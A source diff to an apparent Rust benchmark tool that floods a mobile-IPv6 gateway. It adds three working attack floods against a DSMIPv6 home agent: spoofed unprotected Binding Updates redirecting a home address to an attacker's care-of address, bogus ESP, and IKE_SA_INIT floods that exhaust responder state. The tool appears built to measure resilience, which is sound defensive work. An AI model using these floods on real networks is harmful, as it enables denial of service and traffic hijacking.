@@ -3,7 +3,7 @@
 //! GSO), until its time is up or
 //! SIGTERM. Each kind is what a hostile sender can do without knowing anything but the
 //! gateway's address, the mobile-node prefix and (by sniffing) a mobile node's tunnel
-//! address. It prints one JSON line: datagrams sent, seconds, rate and its own CPU time.
+//! address (toward a DSMIPv6 home agent: its home prefix and a home address). It prints one JSON line: datagrams sent, seconds, rate and its own CPU time.
 //!
 //! The control run sends the same datagrams at the same rate to an address whose route
 //! ends in a veth pair inside the attacker's namespace: the attacker burns the same CPU on the
@@ -11,6 +11,8 @@
 
 use m6t_linux::batch::SendBatch;
 use m6t_linux::udp::{self, Udp};
+use m6t_wire::mh::{bu_flags, MhMessage, MhRepr, MobilityOption};
+use m6t_wire::mip6::{self, HomeIn};
 use m6t_wire::{checksum, keepalive, Ipv6Repr};
 use std::net::{Ipv4Addr, Ipv6Addr, SocketAddrV4};
 use std::sync::atomic::{AtomicBool, Ordering};
@@ -31,6 +33,19 @@ pub enum Kind {
     NewStateGarbage,
     /// Keep-alives from sources inside the prefix, half of them from the spoofed address.
     Keepalive,
+    /// Toward a DSMIPv6 home agent's UDP 4191: Binding Updates without ESP (RFC 5555
+    /// section 4.1's format: IPv6 from a home address to the home agent, a Mobility Header
+    /// BU with the IPv4 care-of address option), half from the registered home address
+    /// (`spoof`), half from other addresses of the home prefix (counting up from `base`).
+    HaBu,
+    /// Toward a home agent's UDP 4500: ESP with a random SPI, and (when an SPI is given)
+    /// with the mobile node's inbound SPI, sequence numbers ahead of its window and a
+    /// wrong ICV.
+    HaEsp,
+    /// Toward a home agent's UDP 4500: IKE_SA_INIT requests behind the non-ESP marker,
+    /// each with a new initiator SPI (valid proposals and key exchange: each one the
+    /// responder accepts costs it a Diffie-Hellman and a half-open SA).
+    HaIke,
 }
 
 impl Kind {
@@ -42,6 +57,8 @@ impl Kind {
         Kind::NewStateGarbage,
         Kind::Keepalive,
     ];
+    /// The floods toward a DSMIPv6 home agent.
+    pub const HA: [Kind; 3] = [Kind::HaBu, Kind::HaEsp, Kind::HaIke];
 
     /// The name on the command line and in the bench's figures.
     pub fn name(self) -> &'static str {
@@ -51,6 +68,9 @@ impl Kind {
             Kind::Spoof => "spoof",
             Kind::NewStateGarbage => "new-state+garbage",
             Kind::Keepalive => "keepalive",
+            Kind::HaBu => "ha-bu",
+            Kind::HaEsp => "ha-esp",
+            Kind::HaIke => "ha-ike",
         }
     }
 }
@@ -60,6 +80,7 @@ impl std::str::FromStr for Kind {
     fn from_str(s: &str) -> Result<Self, String> {
         Kind::ALL
             .into_iter()
+            .chain(Kind::HA)
             .find(|k| k.name() == s)
             .ok_or_else(|| format!("unknown flood `{s}`"))
     }
@@ -82,8 +103,10 @@ pub struct FloodArgs {
     pub ha: Ipv6Addr,
     /// Base of the new sources (inside the mobile-node prefix).
     pub base: Ipv6Addr,
-    /// The spoofed tunnel address.
+    /// The spoofed tunnel address (the home agent's floods: the registered home address).
     pub spoof: Ipv6Addr,
+    /// The home agent's floods: an inbound SPI of the mobile node's (0: none known).
+    pub spi: u32,
 }
 
 /// Packets in the pool the flood cycles through (built before the clock starts).
@@ -107,6 +130,61 @@ fn echo_request(src: Ipv6Addr, dst: Ipv6Addr, seq: u16) -> Vec<u8> {
     p[48..56].copy_from_slice(b"m6tflood");
     let sum = checksum::accumulate(checksum::pseudo_header(&src, &dst, 58, 16), &p[40..56]);
     p[42..44].copy_from_slice(&checksum::finish(sum).to_be_bytes());
+    p
+}
+
+/// An unprotected Binding Update in UDP (RFC 5555 section 4.1): from home address `hoa`,
+/// the IPv4 care-of address the attacker's.
+fn binding_update(hoa: Ipv6Addr, ha: Ipv6Addr, seq: u16) -> Vec<u8> {
+    let mh = MhRepr {
+        msg: MhMessage::Bu {
+            seq,
+            flags: bu_flags::A | bu_flags::H,
+            lifetime: 100,
+        },
+        options: vec![
+            MobilityOption::Ipv4HomeAddress {
+                prefix_len: 32,
+                p: false,
+                addr: Ipv4Addr::UNSPECIFIED,
+            },
+            MobilityOption::Ipv4CareOfAddress(ATTACKER),
+        ],
+    };
+    let mut p = vec![0u8; 40 + 24 + mh.emit_len()];
+    let n = mip6::emit(hoa, ha, HomeIn::Source, &mh, &mut p).unwrap_or(0);
+    p.truncate(n);
+    p
+}
+
+/// The attacker's address (the BUs' IPv4 care-of address option).
+const ATTACKER: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 66);
+
+/// ESP (RFC 4303 section 2) that no SA opens: a random SPI, or `spi` with a sequence number
+/// ahead of any window and random bytes where the ICV is checked.
+fn bad_esp(rng: &mut Rng, spi: u32, i: usize) -> Vec<u8> {
+    // A multiple of 4 (RFC 4303 section 2.4) so that the wrong ICV, not the length, drops it.
+    let len = 64 + 4 * (rng.next() % 40) as usize;
+    let mut p: Vec<u8> = (0..len).map(|_| rng.next() as u8).collect();
+    let spi = if spi != 0 && i % 2 == 0 {
+        spi
+    } else {
+        // 1..=255 are reserved and 0 is the non-ESP marker: never those.
+        (rng.next() as u32) | 0x100
+    };
+    p[0..4].copy_from_slice(&spi.to_be_bytes());
+    p[4..8].copy_from_slice(&(0x4000_0000u32 + i as u32).to_be_bytes());
+    p
+}
+
+/// An IKE_SA_INIT request (the fixture initiator's, RFC 7296 section 1.2) behind the
+/// non-ESP marker (RFC 3948 section 2.2) with a new initiator SPI.
+fn ike_sa_init(rng: &mut Rng) -> Vec<u8> {
+    let init = &m6t_ike::fixtures::transcript()[0];
+    let mut p = Vec::with_capacity(4 + init.len());
+    p.extend_from_slice(&[0; 4]);
+    p.extend_from_slice(init);
+    p[4..12].copy_from_slice(&(rng.next() | 1).to_be_bytes());
     p
 }
 
@@ -152,6 +230,12 @@ fn pool(a: &FloodArgs, round: u64, rng: &mut Rng) -> Vec<Vec<u8>> {
                 let s = if i % 2 == 0 { a.spoof } else { src(i) };
                 keepalive::emit(s, keepalive::KEEPALIVE_PEER).to_vec()
             }
+            Kind::HaBu => {
+                let s = if i % 2 == 0 { a.spoof } else { src(i) };
+                binding_update(s, a.ha, i as u16)
+            }
+            Kind::HaEsp => bad_esp(rng, a.spi, i),
+            Kind::HaIke => ike_sa_init(rng),
         })
         .collect()
 }
@@ -208,7 +292,7 @@ pub fn run(a: FloodArgs) -> Result<(), String> {
                 k = 0;
                 if matches!(
                     a.kind,
-                    Kind::NewState | Kind::NewStateGarbage | Kind::Keepalive
+                    Kind::NewState | Kind::NewStateGarbage | Kind::Keepalive | Kind::HaIke
                 ) {
                     round += 1;
                     packets = pool(&a, round, &mut rng);
